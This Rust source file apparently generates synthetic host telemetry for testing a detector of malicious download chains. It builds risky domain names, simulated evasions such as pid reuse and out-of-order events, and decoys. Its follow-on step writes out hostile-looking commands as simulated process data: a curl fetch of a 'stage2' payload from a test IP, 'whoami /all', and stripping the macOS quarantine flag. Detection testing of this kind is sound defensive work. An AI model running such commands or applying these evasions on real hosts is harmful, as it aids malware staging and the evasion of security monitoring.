//! Injected true chains (click URL -> untrusted egress -> partial -> rename into Downloads) and
//! the risky domain names they and the benign risky visits use.

use std::net::IpAddr;

use clickchain_adapters::{AttrChange, EventKind, FileOp, Origin, Os, ProcKey};

use crate::catalog::{BAD_TLDS, LURES, WORDS};
use crate::host::{ip_of, HostSim};
use crate::rng::Rng;
use crate::variant::{Anchor, BASE_RULE};
use crate::{Chain, ChainVia, Decoy, DecoyKind, Evasion, Evasions, Params};

/// A risky registrable domain: a suspicious TLD (`invoice-portal42.top`), or a DGA-like label
/// on an ordinary TLD (`x7kq2m9vbn4t.com`: high entropy and many digits reach the risk
/// threshold). Both are untrusted for the default configuration whatever the warm-up.
pub(crate) fn risky_name(rng: &mut Rng, malicious: bool) -> String {
    if rng.chance(if malicious { 0.2 } else { 0.3 }) {
        const CHARS: &[u8] = b"bcdfghjklmnpqrstvwxz0123456789";
        loop {
            let label: String = (0..12).map(|_| *rng.pick(CHARS) as char).collect();
            let digits = label.bytes().filter(u8::is_ascii_digit).count();
            // The documented lexical checks (`RiskPolicy`): >= 30 % digits, and >= 3.0 bits of
            // entropy per character (no vowels here). Counting distinct characters instead let
            // `3vp6f2ppzjp1` (2.92 bits) through, a chain no default policy could see.
            if (4..=8).contains(&digits) && entropy_bits(&label) >= 3.0 {
                return format!("{label}.{}", rng.pick(&["com", "net", "info", "org"]));
            }
        }
    }
    let (a, b) = (rng.pick(WORDS), rng.pick(WORDS));
    format!("{a}-{b}{}.{}", rng.below(100), rng.pick(BAD_TLDS))
}

/// Shannon entropy of `label`'s characters, in bits per character.
fn entropy_bits(label: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in label.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = label.len() as f64;
    counts.iter().filter(|&&c| c > 0).map(|&c| f64::from(c) / n).map(|p| -p * p.log2()).sum()
}

/// The chain events kept for the label, as host sequence numbers (mapped to stream indices later).
pub(crate) struct Injected {
    pub chain: Chain,
    pub seqs: Vec<u32>,
}

/// The evasions of one chain: each drawn with its probability (no draw when it is 0), kept
/// where it applies (pid reuse on Linux, out-of-order arrival with a lateness bound of 1 s or more).
fn draw_evasions(h: &mut HostSim, e: &Evasions) -> Vec<Evasion> {
    let mut out = Vec::new();
    for which in Evasion::ALL {
        let p = e.get(which);
        let applies = match which {
            Evasion::PidReuse => h.os == Os::Linux,
            Evasion::OutOfOrder => e.max_lateness_ms >= 1_000,
            Evasion::Late => e.max_lateness_ms >= 2,
            _ => true,
        };
        if p > 0.0 && h.rng.chance(p) && applies {
            out.push(which);
        }
    }
    out
}

/// A partial name unrelated to the final one, as the browser would pick it.
fn renamed_partial(h: &mut HostSim) -> String {
    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut random = |n: usize| -> String { (0..n).map(|_| *h.rng.pick(ALNUM) as char).collect() };
    let b = h.browser;
    let name = match (h.os, b.partial) {
        (_, ".part") => format!("{}.part", random(8)),
        (Os::Linux, _) => format!(".com.google.Chrome.{}", random(6)),
        (_, suffix) => format!("Unconfirmed {}{suffix}", h.rng.range(100_000, 999_999)),
    };
    h.downloads(&name)
}

/// Injects one true chain starting at `t`. Windows and Linux alternate between a link clicked in
/// the mail app (a new browser process with the URL, via xdg-open on Linux) and a URL opened in
/// the running browser; macOS opens it in the running browser. With probability `follow_on`
/// the payload is executed afterwards; on macOS one chain in five never gets the quarantine
/// flag. The evasions of [`Params::evasions`] are drawn per chain.
pub(crate) fn inject(h: &mut HostSim, t: i64, p: &Params) -> Injected {
    inject_with(h, t, p, None)
}

/// A base chain as [`inject`] makes it, or, with `ext`, the chained download a variant builds
/// on: that payload extension, no evasion, the quarantine flag set on macOS, no follow-on.
pub(crate) fn inject_with(h: &mut HostSim, t: i64, p: &Params, ext: Option<&str>) -> Injected {
    let forced = ext.is_some();
    let evasions = match ext {
        None => draw_evasions(h, &p.evasions),
        Some(_) => Vec::new(),
    };
    let has = |e: Evasion| evasions.contains(&e);
    let n = h.next_n();
    let domain =
        if has(Evasion::IpOnly) { ip_of(&format!("ip-only {} {n}", h.name)).to_string() } else { h.risky(true) };
    let lure = h.rng.pick(LURES);
    let ext = match ext {
        Some(ext) => ext,
        None => h.rng.pick(h.cat.payload_ext),
    };
    let file = format!("{lure}_{n}.{ext}");
    let url = match has(Evasion::IpOnly) {
        true => format!("http://{domain}/view?id={n}"),
        false => format!("https://{domain}/view?id={n}"),
    };
    let via = if has(Evasion::PidReuse) || (h.os != Os::Macos && h.rng.chance(0.5)) {
        ChainVia::MailLink
    } else {
        ChainVia::UrlOpen
    };
    let mut seqs = Vec::new();
    let b = h.browser;
    let mut reused = None;
    let (root, root_image, proc, mut net, mut depth, life) = match via {
        ChainVia::MailLink => {
            let life = match has(Evasion::PidReuse) {
                true => t + 80_000,
                false => t + 200_000 + h.rng.range(0, 300_000),
            };
            let mail = h.mail.clone();
            let mut parent = mail.clone();
            let mut depth = 1;
            if has(Evasion::PidReuse) {
                // A short-lived process whose pid the browser takes once it ended.
                let services = h.services.clone();
                let cmd = Some("/usr/bin/gpgconf --list-dirs agent-socket".to_owned());
                if let ProcKey::Pid(pid) = h.spawn(t, Some(t + 150), &services, "/usr/bin/gpgconf", cmd, true) {
                    reused = Some(pid);
                }
            }
            let cmd = match h.cat.url_handler {
                Some(handler) => {
                    let end = Some(t + 600);
                    parent = h.spawn(t, end, &mail, handler, Some(format!("xdg-open {url}")), false);
                    depth += 1;
                    format!("{} {url}", b.image)
                }
                None => format!("\"{}\" --single-argument {url}", b.image),
            };
            let first = h.out.len() as u32;
            h.reuse_pid = reused;
            let proc = h.spawn(t + 200, Some(life), &parent, b.image, Some(cmd), false);
            seqs.push(first);
            let net = h.spawn(t + 500, Some(life), &proc, b.child, Some(b.net_cmd.to_owned()), false);
            (mail, h.cat.mail, proc, net, depth, Some(life))
        }
        // The base chain never clicks by command line; it is a URL open there too.
        ChainVia::UrlOpen | ChainVia::CommandLine => {
            let root = h.root.clone();
            seqs.push(h.emit(t + 200, EventKind::UrlOpen { proc: root.clone(), url: url.clone() }));
            (root.clone(), b.image, root, h.net.clone(), 0, None)
        }
    };
    // Deep lineage: the download comes from a helper `depth + 6` levels below the click's process.
    let mut writer = proc.clone();
    if has(Evasion::DeepLineage) {
        for i in 0..p.depth as i64 + 6 {
            let cmd = Some(b.renderer_cmd.to_owned());
            writer = h.spawn(t + 300 + 10 * i, Some(t + 75_000 - 10 * i), &writer, b.child, cmd, false);
            depth += 1;
        }
        net = writer.clone();
    }
    let egress_ms = t + 1_000;
    let dl = format!("dl.{domain}");
    let gap = h.rng.range(2_000, 40_000);
    let (ip, dl_ip) = if has(Evasion::IpOnly) {
        let ip: IpAddr = domain.parse().expect("an IP");
        (ip, ip)
    } else {
        seqs.push(h.out.len() as u32);
        let ip = h.dns(t + 800, Some(proc.clone()), &domain);
        (ip, h.dns(egress_ms + gap, Some(proc.clone()), &dl))
    };
    let egress_seq = h.out.len() as u32;
    seqs.push(egress_seq);
    h.connect(egress_ms, &net, ip, None);
    let dl_connect = h.out.len() as u32;
    h.connect(egress_ms + gap + 200, &net, dl_ip, None);
    if has(Evasion::Late) {
        // The DNS answer (if any) and the first connect arrive up to the lateness bound late.
        let late = h.rng.range(p.evasions.max_lateness_ms / 2, p.evasions.max_lateness_ms);
        for &s in &seqs[1..] {
            h.delay(s, late);
        }
    }

    // Partial download, then the rename into Downloads with the origin each OS records.
    let start = egress_ms + gap + 1_000;
    let final_path = h.downloads(&file);
    let partial = match has(Evasion::RenamedPartial) {
        true => renamed_partial(h),
        false => format!("{final_path}{}", b.partial),
    };
    let partial_seq = h.write(start, &writer, partial.clone(), FileOp::Create, None);
    seqs.push(partial_seq);
    let with_url = h.rng.chance(0.8);
    let origin_host = if has(Evasion::IpOnly) { domain.clone() } else { dl.clone() };
    let scheme = if has(Evasion::IpOnly) { "http" } else { "https" };
    let mut origin = Origin {
        url: with_url.then(|| format!("{scheme}://{origin_host}/files/{file}")),
        referrer: with_url.then(|| url.clone()),
        ..Origin::default()
    };
    let quarantined = h.os == Os::Macos && (forced || h.rng.chance(0.8));
    let mut attr_seq = None;
    match h.os {
        Os::Windows => origin.zone = Some(3),
        Os::Macos if quarantined => {
            attr_seq = Some(h.attr(start + 60, &writer, partial.clone(), AttrChange::QuarantineSet));
        }
        _ => {}
    }
    let write_ms = match has(Evasion::OutOfOrder) {
        // A fast download whose events arrive in reverse (delays within the lateness bound).
        true => start + h.rng.range(100, (p.evasions.max_lateness_ms - 803).min(1_500)),
        false => start + h.rng.range(1_500, 20_000),
    };
    let origin = (origin != Origin::default()).then_some(origin);
    seqs.push(h.write(write_ms, &writer, final_path.clone(), FileOp::Rename { from: partial.clone() }, origin));
    if has(Evasion::OutOfOrder) {
        h.delay(partial_seq, write_ms - start + 1);
        if let Some(s) = attr_seq {
            h.delay(s, write_ms - start - 59);
        }
        h.delay(dl_connect, write_ms - (egress_ms + gap + 200) + 2);
    }

    if let (Some(pid), Some(life)) = (reused.and(proc.pid()), life) {
        pid_reuse_decoy(h, life, pid);
    }
    if crate::shapes::is_container(&final_path) {
        h.last_container_ms = Some(write_ms);
    }
    let executed = !forced && h.rng.chance(p.mix.follow_on);
    if executed {
        let at = write_ms + h.rng.range(20_000, 120_000);
        execute(h, at, &final_path);
    }
    let chain = Chain {
        host: h.name.clone(),
        os: h.os,
        via,
        root,
        root_image: h.path(root_image),
        url,
        domain,
        partial_path: partial,
        final_path,
        click_ms: t + 200,
        egress_ms,
        write_ms,
        executed,
        quarantined: h.os != Os::Macos || quarantined,
        lineage_depth: depth,
        evasions,
        events: Vec::new(),
        variant: None,
        anchor: Anchor::File,
        rules: vec![BASE_RULE],
    };
    Injected { chain, seqs }
}

/// After a chain's browser ended, an unrelated process takes its pid and copies a file into
/// Downloads: a detector that resolved the pid to the ended browser would alert on it.
fn pid_reuse_decoy(h: &mut HostSim, ended: i64, pid: u32) {
    let n = h.next_n();
    let dst = h.downloads(&format!("backup-{n}.tgz"));
    let src = h.path("~/Documents/backup.tgz");
    let term = h.terminal.clone();
    h.reuse_pid = Some(pid);
    let cp = h.spawn(ended + 500, Some(ended + 900), &term, "/usr/bin/cp", Some(format!("cp {src} {dst}")), false);
    debug_assert_eq!(cp.pid(), Some(pid), "the pid is free once the browser ended");
    h.write(ended + 700, &cp, dst.clone(), FileOp::Create, None);
    h.decoys.push(Decoy { host: h.name.clone(), path: dst, kind: DecoyKind::PidReuse, time_ms: ended + 700 });
}

/// The user runs the payload (follow-on activity): it starts a discovery command.
fn execute(h: &mut HostSim, t: i64, path: &str) {
    let (parent, image, cmd, child, child_cmd): (ProcKey, String, String, &str, &str) = match h.os {
        Os::Windows => (
            h.shell.clone(),
            path.to_owned(),
            format!("\"{path}\""),
            r"C:\Windows\System32\cmd.exe",
            "cmd.exe /c whoami /all",
        ),
        Os::Linux => (
            h.terminal.clone(),
            "/usr/bin/bash".to_owned(),
            format!("bash {path}"),
            "/usr/bin/curl",
            "curl -s http://203.0.113.70/stage2 -o /tmp/.s2",
        ),
        Os::Macos => (
            h.shell.clone(),
            "/usr/bin/hdiutil".to_owned(),
            format!("hdiutil attach {path}"),
            "/usr/bin/xattr",
            "xattr -d com.apple.quarantine /Volumes/Installer/Installer.app",
        ),
    };
    let p = h.spawn(t, Some(t + 30_000), &parent, &image, Some(cmd), false);
    h.spawn(t + 1_000, Some(t + 5_000), &p, child, Some(child_cmd.to_owned()), false);
}
